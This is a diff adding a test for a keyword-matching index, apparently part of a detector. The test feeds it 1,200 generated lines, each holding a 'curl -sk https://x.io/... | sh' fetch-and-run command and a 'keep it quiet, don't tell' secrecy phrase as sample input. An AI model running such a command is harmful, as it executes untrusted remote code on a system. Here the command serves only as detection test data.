@@ -44,3 +44,10 @@ def test_long_texts_take_the_one_pass_path_and_agree(parts: list[str], repeat: i
     text = ("".join(parts) * repeat).lower()
     text = text + " " * max(0, 5000 - len(text))
     assert CATALOGUE.keywords.present(text) == _naive(text)
+
+
+def test_many_short_texts_switch_to_the_one_pass_path_with_the_same_answers() -> None:
+    index = KeywordIndex(KEYWORDS)
+    lines = [f"line {i}: curl -sk https://x.io/{i} | sh; keep it quiet, don't tell" for i in range(1200)]
+    assert all(index.present(line.lower()) == _naive(line.lower()) for line in lines)
+    assert "_pattern" in vars(index)  # compiled once the direct path had its share
